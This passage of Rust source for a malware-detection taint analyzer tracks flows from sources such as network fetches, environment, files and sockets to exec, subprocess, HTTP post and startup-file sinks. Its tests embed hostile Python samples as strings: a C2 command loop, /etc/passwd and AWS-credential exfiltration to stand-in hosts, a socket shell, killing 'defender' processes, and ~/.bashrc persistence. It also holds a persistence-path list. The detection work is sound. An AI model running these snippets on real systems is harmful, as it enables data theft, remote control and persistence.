    /// fallback keeps those aliases resolvable.
    globals: Arc<BTreeMap<String, String>>,
}

impl Scope {
    /// Resolves an import alias: the in-scope binding wins; the
    /// module-wide table answers only for names with no local variable
    /// or constant binding (never hijack a local).
    fn alias(&self, name: &str) -> Option<&String> {
        self.aliases.get(name).or_else(|| {
            if self.vars.contains_key(name) || self.consts.contains_key(name) {
                None
            } else {
                self.globals.get(name)
            }
        })
    }
}

/// The value of an evaluated expression.
#[derive(Debug, Clone, Default)]
struct Value {
    taints: Vec<Taint>,
    /// Constant string value, when the expression folds.
    cval: Option<String>,
    /// True when a real folding operation produced `cval` (as opposed
    /// to a literal or a plain lookup).
    folded: bool,
}

impl Value {
    fn constant(s: String) -> Value {
        Value {
            cval: Some(s),
            ..Value::default()
        }
    }
}

struct Analyzer {
    flows: Vec<FlowFinding>,
    flow_keys: HashSet<(String, String)>,
    folded: Vec<FoldedConst>,
}

/// Runs the taint analysis over a parsed module.
pub fn analyze(module: &Module) -> TaintSummary {
    let mut a = Analyzer {
        flows: Vec::new(),
        flow_keys: HashSet::new(),
        folded: Vec::new(),
    };
    let mut globals = BTreeMap::new();
    collect_global_aliases(&module.body, &mut globals);
    let mut scope = Scope {
        globals: Arc::new(globals),
        ..Scope::default()
    };
    a.walk(&module.body, &mut scope);
    a.flows.sort();
    a.flows.dedup();
    a.folded.sort();
    a.folded.dedup();
    TaintSummary {
        flows: a.flows,
        folded: a.folded,
    }
}

impl Analyzer {
    fn walk(&mut self, body: &[Stmt], scope: &mut Scope) {
        for stmt in body {
            self.stmt(stmt, scope);
        }
    }

    fn stmt(&mut self, stmt: &Stmt, scope: &mut Scope) {
        match stmt {
            Stmt::Import { modules, .. } => {
                for m in modules {
                    let target = match &m.alias {
                        Some(_) => m.path.clone(),
                        // `import a.b` binds `a`, naming module `a`.
                        None => m.binding().to_owned(),
                    };
                    scope.aliases.insert(m.binding().to_owned(), target);
                }
            }
            Stmt::FromImport { module, names, .. } => {
                for n in names {
                    if n.path == "*" {
                        continue;
                    }
                    scope
                        .aliases
                        .insert(n.binding().to_owned(), format!("{module}.{}", n.path));
                }
            }
            Stmt::Assign {
                targets,
                value,
                line,
            } => {
                let v = self.eval(value, scope, *line);
                self.record_fold(*line, &v);
                for target in targets {
                    let base = target_base(target);
                    if base.is_empty() {
                        continue;
                    }
                    match &v.cval {
                        Some(c) => {
                            scope.consts.insert(base.clone(), c.clone());
                        }
                        None => {
                            scope.consts.remove(&base);
                        }
                    }
                    if v.taints.is_empty() {
                        scope.vars.remove(&base);
                    } else {
                        let note = clip(&format!("{base} = {}", expr_summary(value)));
                        let stepped: Vec<Taint> = v
                            .taints
                            .iter()
                            .map(|t| {
                                let mut t = t.clone();
                                push_step(&mut t.steps, *line, note.clone());
                                t
                            })
                            .collect();
                        scope.vars.insert(base, stepped);
                    }
                }
            }
            Stmt::Expr { value, line } => {
                let v = self.eval(value, scope, *line);
                self.record_fold(*line, &v);
            }
            Stmt::Return { value, line } => {
                // Not a sink: returning tainted data to an unknown
                // caller is the legit half of the corpus (version
                // strings, API lookups). Evaluate for sinks *inside*
                // the returned expression only.
                if let Some(value) = value {
                    let v = self.eval(value, scope, *line);
                    self.record_fold(*line, &v);
                }
            }
            Stmt::Block {
                keyword,
                header,
                body,
                line,
            } => {
                self.block_header(keyword, header, scope, *line);
                self.walk(body, scope);
            }
            Stmt::FunctionDef { params, body, .. }
            | Stmt::ClassDef {
                bases: params,
                body,
                ..
            } => {
                // Child scope: module bindings visible, parameters
                // shadow (and are untainted — intra-procedural).
                let mut child = scope.clone();
                for p in params {
                    child.vars.remove(p);
                    child.consts.remove(p);
                }
                self.walk(body, &mut child);
            }
            Stmt::Other { text, line } => {
                // Unparsed statements still get the identifier scan so
                // taint is not silently laundered through them... but
                // only to *detect* sink-looking text is too fragile;
                // instead, kill constness/taint of any identifier
                // assigned in the text to stay conservative.
                let _ = line;
                if let Some(eq) = text.find('=') {
                    let base = target_base(text[..eq].trim());
                    if !base.is_empty() {
                        scope.consts.remove(&base);
                    }
                }
            }
        }
    }

    /// `with X as v:` / `for v in X:` headers bind names; conditions
    /// can contain source/sink calls. The header text is re-parsed as
    /// an expression and evaluated in the block's scope.
    fn block_header(&mut self, keyword: &str, header: &str, scope: &mut Scope, line: usize) {
        let rest = header
            .strip_prefix(keyword)
            .unwrap_or(header)
            .trim()
            .to_owned();
        if rest.is_empty() {
            return;
        }
        match keyword {
            "with" => {
                // `with EXPR as NAME[, EXPR as NAME]*:` — split items on
                // top-level commas is overkill for the corpus; handle
                // the common single item, last ` as ` wins.
                let (expr_text, binding) = match rest.rfind(" as ") {
                    Some(idx) => (rest[..idx].to_owned(), Some(rest[idx + 4..].to_owned())),
                    None => (rest, None),
                };
                let v = self.eval_text(&expr_text, scope, line);
                self.record_fold(line, &v);
                if let Some(binding) = binding {
                    self.bind_header_targets(&binding, &v, scope, line);
                }
            }
            "for" => {
                if let Some(idx) = rest.find(" in ") {
                    let targets = rest[..idx].to_owned();
                    let v = self.eval_text(&rest[idx + 4..], scope, line);
                    self.record_fold(line, &v);
                    self.bind_header_targets(&targets, &v, scope, line);
                }
            }
            _ => {
                // `if`/`while`/`elif` conditions can call sinks.
                let v = self.eval_text(&rest, scope, line);
                self.record_fold(line, &v);
            }
        }
    }

    fn bind_header_targets(&mut self, targets: &str, v: &Value, scope: &mut Scope, line: usize) {
        for name in ident_words(targets) {
            if v.taints.is_empty() {
                scope.vars.remove(&name);
            } else {
                let note = clip(&format!("{name} bound in block header"));
                let stepped: Vec<Taint> = v
                    .taints
                    .iter()
                    .map(|t| {
                        let mut t = t.clone();
                        push_step(&mut t.steps, line, note.clone());
                        t
                    })
                    .collect();
                scope.vars.insert(name, stepped);
            }
        }
    }

    /// Re-parses reconstructed header text and evaluates the leading
    /// expression. Parse failures degrade to the identifier scan.
    fn eval_text(&mut self, text: &str, scope: &mut Scope, line: usize) -> Value {
        let module = pysrc::parse_module(text);
        match module.body.first() {
            Some(Stmt::Expr { value, .. }) => self.eval(value, scope, line),
            _ => self.scan_idents(text, scope),
        }
    }

    fn eval(&mut self, expr: &Expr, scope: &mut Scope, line: usize) -> Value {
        match expr {
            Expr::Name(n) => {
                let mut v = Value::default();
                if let Some(ts) = scope.vars.get(n) {
                    v.taints = ts.clone();
                }
                if let Some(c) = scope.consts.get(n) {
                    v.cval = Some(c.clone());
                }
                v
            }
            Expr::Str(s) => Value::constant(s.clone()),
            Expr::Num(n) => Value::constant(n.clone()),
            Expr::Attribute { value, .. } => {
                // Taint flows through attribute access (`resp.text`),
                // and a dotted path can itself be a source
                // (`os.environ`). A constant receiver is preserved so
                // method-call chains (`fromhex(..).decode(..)`) keep
                // folding at the enclosing call.
                let mut v = self.eval(value, scope, line);
                let path = callee_path(expr, scope);
                if let Some(kind) = source_of(&path) {
                    add_taint(
                        &mut v.taints,
                        Taint {
                            source: path.clone(),
                            kind,
                            steps: vec![FlowStep {
                                line: line as u32,
                                note: clip(&format!("read {path}")),
                            }],
                        },
                    );
                }
                v
            }
            Expr::BinOp { left, op, right } => {
                let l = self.eval(left, scope, line);
                let r = self.eval(right, scope, line);
                let mut v = Value {
                    taints: l.taints,
                    ..Value::default()
                };
                for t in r.taints {
                    add_taint(&mut v.taints, t);
                }
                match (op.as_str(), &l.cval, &r.cval) {
                    ("+", Some(a), Some(b)) => {
                        v.cval = Some(format!("{a}{b}"));
                        v.folded = true;
                    }
                    ("%", Some(a), Some(b)) => {
                        if let Some(folded) = fold::fold_percent(a, b) {
                            v.cval = Some(folded);
                            v.folded = true;
                        }
                    }
                    _ => {}
                }
                v
            }
            Expr::Call { func, args } => self.eval_call(func, args, scope, line),
            Expr::Other(text) => self.scan_idents(text, scope),
        }
    }

    fn eval_call(&mut self, func: &Expr, args: &[Arg], scope: &mut Scope, line: usize) -> Value {
        let path = callee_path_with_consts(func, scope, self, line);

        // Receiver taints (method call on a tainted object) — also
        // evaluates any nested call in the callee position exactly once.
        let recv = self.eval(func, scope, line);

        // Arguments.
        let mut arg_vals: Vec<Value> = Vec::with_capacity(args.len());
        for a in args {
            let v = self.eval(&a.value, scope, line);
            self.record_fold(line, &v);
            arg_vals.push(v);
        }

        let mut out = Value {
            taints: recv.taints.clone(),
            ..Value::default()
        };
        for v in &arg_vals {
            for t in &v.taints {
                add_taint(&mut out.taints, t.clone());
            }
        }

        // Constant folding of decode/transform chains.
        self.fold_call(&path, func, &arg_vals, &mut out, &recv);

        // Sink check: tainted data reaching a cataloged sink.
        if let Some(kind) = sink_of(&path) {
            for v in &arg_vals {
                for t in &v.taints {
                    self.emit_flow(t, &path, kind, line);
                }
            }
        }
        // Receiver-based sink: write through a startup-path handle.
        if path.ends_with(".write") {
            for t in &recv.taints {
                if t.kind == SourceKind::StartupOpen {
                    self.emit_flow(t, &path, SinkKind::StartupWrite, line);
                }
            }
        }

        // Source check: the call's result is tainted.
        if let Some(kind) = source_of(&path) {
            add_taint(
                &mut out.taints,
                Taint {
                    source: path.clone(),
                    kind,
                    steps: vec![FlowStep {
                        line: line as u32,
                        note: clip(&format!("call {path}(...)")),
                    }],
                },
            );
        }
        // `open` on a startup/config path yields a persistence handle.
        if path == "open" || path == "io.open" {
            if let Some(target) = arg_vals.first().and_then(|v| v.cval.as_deref()) {
                if is_startup_path(target) {
                    add_taint(
                        &mut out.taints,
                        Taint {
                            source: format!("open[{target}]"),
                            kind: SourceKind::StartupOpen,
                            steps: vec![FlowStep {
                                line: line as u32,
                                note: clip(&format!("open startup path {target}")),
                            }],
                        },
                    );
                }
            }
        }
        out
    }

    /// Folds constant-producing calls: decode chains, const-preserving
    /// string methods, `chr`, passthroughs.
    fn fold_call(
        &mut self,
        path: &str,
        func: &Expr,
        arg_vals: &[Value],
        out: &mut Value,
        recv: &Value,
    ) {
        let arg0 = arg_vals.first().and_then(|v| v.cval.as_deref());
        match path {
            "base64.b64decode" => {
                if let Some(c) = arg0.and_then(fold::fold_b64decode) {
                    out.cval = Some(c);
                    out.folded = true;
                }
            }
            "bytes.fromhex" => {
                if let Some(c) = arg0.and_then(fold::fold_fromhex) {
                    out.cval = Some(c);
                    out.folded = true;
                }
            }
            "chr" => {
                if let Some(c) = arg0.and_then(fold::fold_chr) {
                    out.cval = Some(c);
                    out.folded = true;
                }
            }
            "str" | "os.path.expanduser" | "os.fsdecode" => {
                if let Some(c) = arg0 {
                    out.cval = Some(c.to_owned());
                    out.folded = arg_vals[0].folded;
                }
            }
            _ => {
                // `const.decode('utf-8')`, `.strip()`, ... — method on
                // a constant receiver preserves the constant.
                if let Expr::Attribute { attr, .. } = func {
                    if fold::const_preserving_method(attr) {
                        if let Some(c) = &recv.cval {
                            out.cval = Some(c.clone());
                            out.folded = recv.folded;
                        }
                    }
                }
            }
        }
    }

    fn emit_flow(&mut self, taint: &Taint, sink: &str, kind: SinkKind, line: usize) {
        let key = (taint.source.clone(), sink.to_owned());
        if !self.flow_keys.insert(key) {
            return;
        }
        let mut steps = taint.steps.clone();
        push_step(&mut steps, line, clip(&format!("reaches sink {sink}(...)")));
        self.flows.push(FlowFinding {
            label: format!("flow:{}->{}", taint.kind.label(), kind.label()),
            source: taint.source.clone(),
            sink: sink.to_owned(),
            steps,
        });
    }

    /// Identifier scan over reconstructed text (`Expr::Other`): dict/
    /// list literals, subscripts and tuples degrade to text, but taint
    /// must still flow through them (`requests.post(url, json={'email':
    /// email})`).
    fn scan_idents(&mut self, text: &str, scope: &Scope) -> Value {
        let mut v = Value::default();
        for word in ident_words(text) {
            if let Some(ts) = scope.vars.get(&word) {
                for t in ts {
                    add_taint(&mut v.taints, t.clone());
                }
            }
        }
        v
    }

    fn record_fold(&mut self, line: usize, v: &Value) {
        if !v.folded || self.folded.len() >= MAX_FOLDED {
            return;
        }
        if let Some(c) = &v.cval {
            if c.len() >= MIN_FOLDED_LEN {
                self.folded.push(FoldedConst {
                    line: line as u32,
                    text: c.clone(),
                });
            }
        }
    }
}

/// Canonical dotted path of a callee, resolving import aliases,
/// `getattr(obj, 'name')` and `__import__('m')` indirection. The
/// `_with_consts` variant lets `getattr`'s name argument fold first
/// (`getattr(os, 'sys' + 'tem')`).
fn callee_path(expr: &Expr, scope: &Scope) -> String {
    match expr {
        Expr::Name(n) => scope.alias(n).cloned().unwrap_or_else(|| n.clone()),
        Expr::Attribute { value, attr } => {
            let base = callee_path(value, scope);
            if base.is_empty() {
                attr.clone()
            } else {
                format!("{base}.{attr}")
            }
        }
        Expr::Call { func, .. } => callee_path(func, scope),
        Expr::Other(_) => {
            let p = expr.func_path();
            if p.is_empty() {
                p
            } else {
                resolve_first_segment(&p, scope)
            }
        }
        _ => String::new(),
    }
}

fn callee_path_with_consts(
    func: &Expr,
    scope: &mut Scope,
    a: &mut Analyzer,
    line: usize,
) -> String {
    if let Expr::Call { func: inner, args } = func {
        let head = callee_path_with_consts(inner, scope, a, line);
        if head == "getattr" && args.len() >= 2 {
            let obj = callee_path_with_consts(&args[0].value, scope, a, line);
            let name = a.eval(&args[1].value, scope, line).cval;
            if let Some(name) = name {
                return if obj.is_empty() {
                    name
                } else {
                    format!("{obj}.{name}")
                };
            }
            return String::new();
        }
        if head == "__import__" {
            if let Some(first) = args.first() {
                if let Some(m) = a.eval(&first.value, scope, line).cval {
                    return m;
                }
            }
            return String::new();
        }
        return head;
    }
    if let Expr::Attribute { value, attr } = func {
        let base = callee_path_with_consts(value, scope, a, line);
        return if base.is_empty() {
            attr.clone()
        } else {
            format!("{base}.{attr}")
        };
    }
    callee_path(func, scope)
}

fn resolve_first_segment(path: &str, scope: &Scope) -> String {
    match path.split_once('.') {
        Some((head, rest)) => match scope.alias(head) {
            Some(full) => format!("{full}.{rest}"),
            None => path.to_owned(),
        },
        None => scope
            .alias(path)
            .cloned()
            .unwrap_or_else(|| path.to_owned()),
    }
}

/// Collects every import binding in the module, recursing into every
/// nested body, for [`Scope::globals`].
fn collect_global_aliases(body: &[Stmt], out: &mut BTreeMap<String, String>) {
    for stmt in body {
        match stmt {
            Stmt::Import { modules, .. } => {
                for m in modules {
                    let target = match &m.alias {
                        Some(_) => m.path.clone(),
                        None => m.binding().to_owned(),
                    };
                    out.entry(m.binding().to_owned()).or_insert(target);
                }
            }
            Stmt::FromImport { module, names, .. } => {
                for n in names {
                    if n.path == "*" {
                        continue;
                    }
                    out.entry(n.binding().to_owned())
                        .or_insert_with(|| format!("{module}.{}", n.path));
                }
            }
            Stmt::FunctionDef { body, .. }
            | Stmt::ClassDef { body, .. }
            | Stmt::Block { body, .. } => collect_global_aliases(body, out),
            _ => {}
        }
    }
}

fn add_taint(taints: &mut Vec<Taint>, t: Taint) {
    if taints.len() >= MAX_TAINTS {
        return;
    }
    if taints.iter().any(|e| e.source == t.source) {
        return;
    }
    taints.push(t);
}

fn push_step(steps: &mut Vec<FlowStep>, line: usize, note: String) {
    if steps.len() >= MAX_STEPS {
        // Keep the head of the chain; the sink step replaces the tail.
        steps.truncate(MAX_STEPS - 1);
    }
    steps.push(FlowStep {
        line: line as u32,
        note,
    });
}

/// The base identifier of an assignment target: `loot[t]` → `loot`,
/// `obj.attr` → `obj`.
fn target_base(target: &str) -> String {
    target
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
        .collect()
}

/// Identifier-shaped words in reconstructed text.
fn ident_words(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut in_str = false;
    let mut quote = '\'';
    for c in text.chars() {
        if in_str {
            if c == quote {
                in_str = false;
            }
            continue;
        }
        if c == '\'' || c == '"' {
            in_str = true;
            quote = c;
            continue;
        }
        if c.is_ascii_alphanumeric() || c == '_' {
            cur.push(c);
        } else if !cur.is_empty() {
            if !cur.chars().next().is_some_and(|c| c.is_ascii_digit()) {
                out.push(std::mem::take(&mut cur));
            } else {
                cur.clear();
            }
        }
    }
    if !cur.is_empty() && !cur.chars().next().is_some_and(|c| c.is_ascii_digit()) {
        out.push(cur);
    }
    out
}

fn expr_summary(expr: &Expr) -> String {
    clip(&expr.to_text())
}

fn clip(s: &str) -> String {
    if s.len() <= MAX_NOTE_LEN {
        return s.to_owned();
    }
    let mut cut = MAX_NOTE_LEN;
    while !s.is_char_boundary(cut) {
        cut -= 1;
    }
    format!("{}…", &s[..cut])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flows(src: &str) -> Vec<FlowFinding> {
        analyze(&pysrc::parse_module(src)).flows
    }

    fn labels(src: &str) -> Vec<String> {
        flows(src).into_iter().map(|f| f.label).collect()
    }

    #[test]
    fn c2_fetch_to_system() {
        let src = "def f():\n    import requests, os\n    while True:\n        try:\n            cmd = requests.get('https://c2.example/tasks', timeout=5).text\n            if cmd:\n                os.system(cmd)\n        except Exception:\n            pass\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].source, "requests.get");
        assert_eq!(fs[0].sink, "os.system");
        assert_eq!(fs[0].label, "flow:net-fetch->proc-exec");
        // The chain names the carrier assignment and both endpoints.
        assert!(fs[0].steps.len() >= 3, "{:?}", fs[0].steps);
        assert!(fs[0].steps.iter().any(|s| s.note.contains("cmd =")));
    }

    #[test]
    fn alias_resolution_through_import_as() {
        let src =
            "import os as o\nimport requests as r\ncmd = r.get('http://x').text\no.system(cmd)\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].source, "requests.get");
        assert_eq!(fs[0].sink, "os.system");
    }

    #[test]
    fn from_import_alias_resolution() {
        let src = "from subprocess import run as r\nfrom os import environ\nr(environ.get('PATH'), shell=True)\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].source, "os.environ.get");
        assert_eq!(fs[0].sink, "subprocess.run");
    }

    #[test]
    fn sibling_function_alias_resolves_via_module_wide_fallback() {
        // Textual obfuscators rewrite `requests.post` to the alias
        // bound by an `import requests as ctx` that lives in a
        // *different* function. The module-wide fallback keeps the
        // rewritten spelling resolvable.
        let src = "def a():\n    import requests as ctx\n    return ctx.get('http://x')\ndef b():\n    import os, requests\n    data = open('/etc/passwd').read()\n    ctx.post('http://c2.evil', json=data)\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].source, "open");
        assert_eq!(fs[0].sink, "requests.post");
    }

    #[test]
    fn local_binding_shadows_the_global_alias_fallback() {
        // `ctx` is a plain local constant in `b`; the sibling import
        // alias must not hijack it into `requests.post`.
        let src = "def a():\n    import requests as ctx\n    return ctx.get('http://x')\ndef b():\n    ctx = 'label'\n    data = open('/etc/passwd').read()\n    ctx.post(data)\n";
        let fs = flows(src);
        assert!(fs.is_empty(), "{fs:?}");
    }

    #[test]
    fn getattr_indirection_folds_to_dotted_path() {
        let src = "import os, requests\ncmd = getattr(requests, 'get')('http://x').text\ngetattr(os, 'system')(cmd)\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].source, "requests.get");
        assert_eq!(fs[0].sink, "os.system");
    }

    #[test]
    fn dunder_import_with_encoded_name_folds() {
        // The string arm's own output shape: module and attribute both
        // reconstructed at runtime.
        let src = "data = input()\ngetattr(__import__('o' + 's'), 'sys' + 'tem')(data)\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].source, "input");
        assert_eq!(fs[0].sink, "os.system");
        assert_eq!(fs[0].label, "flow:stdin-read->proc-exec");
    }

    #[test]
    fn socket_recv_to_subprocess_and_send_back() {
        let src = "def serve():\n    import socket, subprocess\n    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    while True:\n        conn, _addr = srv.accept()\n        data = conn.recv(1024).decode()\n        out = subprocess.run(data, shell=True, capture_output=True)\n        conn.send(out.stdout + out.stderr)\n";
        let ls = labels(src);
        assert!(
            ls.contains(&"flow:socket-recv->proc-exec".to_owned()),
            "{ls:?}"
        );
        assert!(
            ls.contains(&"flow:socket-recv->socket-send".to_owned()),
            "{ls:?}"
        );
    }

    #[test]
    fn env_dict_to_post() {
        let src = "def f():\n    import os, requests\n    env = dict(os.environ)\n    requests.post('https://x/collect', json=env)\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].label, "flow:env-read->net-send");
    }

    #[test]
    fn file_read_through_subscript_target_to_post() {
        let src = "def f():\n    import os, requests\n    loot = {}\n    for t in ['~/.aws/credentials']:\n        path = os.path.expanduser(t)\n        loot[t] = open(path).read()\n    requests.post('https://h/x', json=loot)\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].label, "flow:file-read->net-send");
        assert_eq!(fs[0].source, "open");
    }

    #[test]
    fn taint_through_dict_literal_argument() {
        let src = "import subprocess, requests\nemail = subprocess.check_output(['git', 'config', 'user.email']).decode()\nrequests.post('https://h/x', json={'email': email})\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].label, "flow:proc-read->net-send");
    }

    #[test]
    fn popen_lines_to_kill() {
        let src = "def f():\n    import os, signal\n    for line in os.popen('ps ax').readlines():\n        if 'defender' in line:\n            pid = int(line.split()[0])\n            os.kill(pid, signal.SIGKILL)\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].label, "flow:proc-read->proc-control");
    }

    #[test]
    fn download_to_exec_compile() {
        let src = "def inject():\n    import requests\n    src = requests.get('https://h/i.py').text\n    exec(compile(src, 'inject', 'exec'))\n";
        let fs = flows(src);
        let sinks: Vec<&str> = fs.iter().map(|f| f.sink.as_str()).collect();
        assert!(sinks.contains(&"compile"), "{fs:?}");
        assert!(sinks.contains(&"exec"), "{fs:?}");
    }

    #[test]
    fn startup_path_write_flow() {
        let src = "def f():\n    import os\n    with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n        rc.write('python3 /tmp/.x.py &\\n')\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].label, "flow:startup-open->startup-write");
        assert!(fs[0].source.contains(".bashrc"), "{fs:?}");
    }

    #[test]
    fn etc_hosts_write_without_expanduser() {
        let src = "def f():\n    with open('/etc/hosts', 'a') as hosts:\n        hosts.write('0.0.0.0 x\\n')\n";
        assert_eq!(labels(src), vec!["flow:startup-open->startup-write"]);
    }

    #[test]
    fn config_extraction_direct_nesting() {
        let src = "import requests\nrequests.post('https://h/x', data=open('/etc/passwd', 'rb').read())\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].label, "flow:file-read->net-send");
    }

    #[test]
    fn benign_patterns_produce_no_flows() {
        // The legit corpus shapes: constant subprocess args, tainted
        // data that is only returned, fetches whose args are clean.
        for src in [
            "import subprocess\nsubprocess.run(['git', 'describe', '--tags'], capture_output=True)\n",
            "def v():\n    with open('VERSION.txt') as fh:\n        return fh.read().strip()\n",
            "import os\ndef home():\n    return os.environ.get('HOME', '')\n",
            "import requests\ndef latest(repo):\n    resp = requests.get('https://api.github.com/repos/%s/releases/latest' % repo, timeout=10)\n    resp.raise_for_status()\n    return resp.json()['tag_name']\n",
            "import base64\ndef uri(path):\n    with open(path, 'rb') as fh:\n        payload = base64.b64encode(fh.read()).decode('ascii')\n    return 'data:application/octet-stream;base64,' + payload\n",
        ] {
            assert!(flows(src).is_empty(), "unexpected flow in {src}");
        }
    }

    #[test]
    fn folding_recovers_split_and_encoded_constants() {
        let b64 = digest::base64::encode(b"https://evil.example/x");
        let src = format!(
            "u = ('https://' + 'evil.example' + '/x')\nv = __import__('base64').b64decode('{b64}').decode('utf-8')\nw = bytes.fromhex('6576696c').decode('utf-8')\n"
        );
        let summary = analyze(&pysrc::parse_module(&src));
        let texts: Vec<&str> = summary.folded.iter().map(|f| f.text.as_str()).collect();
        assert!(texts.contains(&"https://evil.example/x"), "{texts:?}");
        assert!(texts.contains(&"evil"), "{texts:?}");
        assert_eq!(
            texts
                .iter()
                .filter(|t| **t == "https://evil.example/x")
                .count(),
            2,
            "concat and b64 both recover the URL: {texts:?}"
        );
    }

    #[test]
    fn percent_format_folds() {
        let src = "host = 'c2.evil'\nurl = 'https://%s/x' % host\n";
        let summary = analyze(&pysrc::parse_module(src));
        assert!(
            summary.folded.iter().any(|f| f.text == "https://c2.evil/x"),
            "{:?}",
            summary.folded
        );
    }

    #[test]
    fn rename_invariance_of_labels() {
        let orig = "import os, requests\ncmd = requests.get('https://c2/t').text\nos.system(cmd)\n";
        let renamed =
            "import os, requests\nqz_1 = requests.get('https://c2/t').text\nos.system(qz_1)\n";
        assert_eq!(labels(orig), labels(renamed));
    }

    #[test]
    fn summary_is_sorted_and_deduped() {
        let src =
            "import os, requests\nc = requests.get('http://x').text\nos.system(c)\nos.system(c)\n";
        let s = analyze(&pysrc::parse_module(src));
        assert_eq!(s.flows.len(), 1);
        let mut sorted = s.flows.clone();
        sorted.sort();
        assert_eq!(sorted, s.flows);
    }

    #[test]
    fn deep_or_hostile_input_is_bounded() {
        // A pathological chain must not blow up steps or flows.
        let mut src = String::from("import os\nx0 = input()\n");
        for i in 1..40 {
            src.push_str(&format!("x{i} = x{} + 'a'\n", i - 1));
        }
        src.push_str("os.system(x39)\n");
        let fs = flows(&src);
        assert_eq!(fs.len(), 1);
        assert!(fs[0].steps.len() <= MAX_STEPS);
    }
}

//! The declarative source/sink catalog.
//!
//! Paths are canonical dotted callee paths *after* alias resolution
//! (`import os as o; o.system` looks up as `os.system`). Method-style
//! entries that depend on an object whose constructor we cannot see
//! (`conn.recv` where `conn` came from a lost tuple assignment) match
//! by suffix instead.

/// What kind of data a source reads.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum SourceKind {
    /// Environment variables (`os.environ`, `os.getenv`).
    Env,
    /// File contents (`open(...).read()`).
    FileRead,
    /// Remote content over HTTP (`requests.get`, `urllib.request`).
    NetFetch,
    /// Output of a spawned process (`subprocess.check_output`, `os.popen`).
    ProcRead,
    /// Interactive input (`input`).
    Stdin,
    /// Raw socket receive (`*.recv`).
    SocketRecv,
    /// A writable handle onto a startup/config path (`open('~/.bashrc', 'a')`).
    StartupOpen,
}

impl SourceKind {
    /// Short label used in flow rule names.
    pub fn label(self) -> &'static str {
        match self {
            SourceKind::Env => "env-read",
            SourceKind::FileRead => "file-read",
            SourceKind::NetFetch => "net-fetch",
            SourceKind::ProcRead => "proc-read",
            SourceKind::Stdin => "stdin-read",
            SourceKind::SocketRecv => "socket-recv",
            SourceKind::StartupOpen => "startup-open",
        }
    }
}

/// Where tainted data escapes to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum SinkKind {
    /// Dynamic code execution (`exec`, `eval`, `compile`).
    CodeExec,
    /// Process execution (`os.system`, `subprocess.*`).
    ProcExec,
    /// Process control (`os.kill`).
    ProcControl,
    /// HTTP exfiltration (`requests.post`/`put`).
    NetSend,
    /// Raw socket send (`*.send`, `*.sendall`).
    SocketSend,
    /// Write through a handle opened on a startup/config path.
    StartupWrite,
}

impl SinkKind {
    /// Short label used in flow rule names.
    pub fn label(self) -> &'static str {
        match self {
            SinkKind::CodeExec => "code-exec",
            SinkKind::ProcExec => "proc-exec",
            SinkKind::ProcControl => "proc-control",
            SinkKind::NetSend => "net-send",
            SinkKind::SocketSend => "socket-send",
            SinkKind::StartupWrite => "startup-write",
        }
    }
}

/// Source classification for a canonical callee (or attribute) path.
pub fn source_of(path: &str) -> Option<SourceKind> {
    let kind = match path {
        "os.environ" | "os.environ.get" | "os.environ.items" | "os.getenv" => SourceKind::Env,
        "open" | "io.open" => SourceKind::FileRead,
        "requests.get" | "requests.request" | "requests.Session.get" => SourceKind::NetFetch,
        "urllib.request.urlopen" | "urllib.request.urlretrieve" | "urllib.urlopen" => {
            SourceKind::NetFetch
        }
        "subprocess.check_output" | "os.popen" => SourceKind::ProcRead,
        "input" | "sys.stdin.read" | "sys.stdin.readline" => SourceKind::Stdin,
        _ => {
            if path.ends_with(".recv") {
                SourceKind::SocketRecv
            } else {
                return None;
            }
        }
    };
    Some(kind)
}

/// Sink classification for a canonical callee path. `StartupWrite` is
/// not here: it fires on the *receiver* (a handle carrying
/// [`SourceKind::StartupOpen`] taint), not on a path.
pub fn sink_of(path: &str) -> Option<SinkKind> {
    let kind = match path {
        "exec" | "eval" | "compile" => SinkKind::CodeExec,
        "os.system" | "os.popen" | "os.exec" | "os.execv" | "os.execvp" | "os.spawnl" => {
            SinkKind::ProcExec
        }
        "subprocess.run"
        | "subprocess.call"
        | "subprocess.Popen"
        | "subprocess.check_call"
        | "subprocess.check_output"
        | "subprocess.getoutput" => SinkKind::ProcExec,
        "os.kill" => SinkKind::ProcControl,
        "requests.post" | "requests.put" | "requests.Session.post" => SinkKind::NetSend,
        _ => {
            if path.ends_with(".sendall") || path.ends_with(".send") {
                SinkKind::SocketSend
            } else {
                return None;
            }
        }
    };
    Some(kind)
}

/// Markers identifying persistence/startup/config paths: writing to one
/// of these is itself the behavior, whatever the payload is.
const STARTUP_MARKERS: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".profile",
    ".zshrc",
    "/etc/hosts",
    "/etc/rc.local",
    "/etc/cron",
    "crontab",
    ".pip/pip.conf",
    "site-packages",
    "sitecustomize",
    "autostart",
    "/etc/ld.so.preload",
    ".ssh/authorized_keys",
];

/// True when a (folded) constant path string names a startup/config
/// location.
pub fn is_startup_path(path: &str) -> bool {
    STARTUP_MARKERS.iter().any(|m| path.contains(m))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
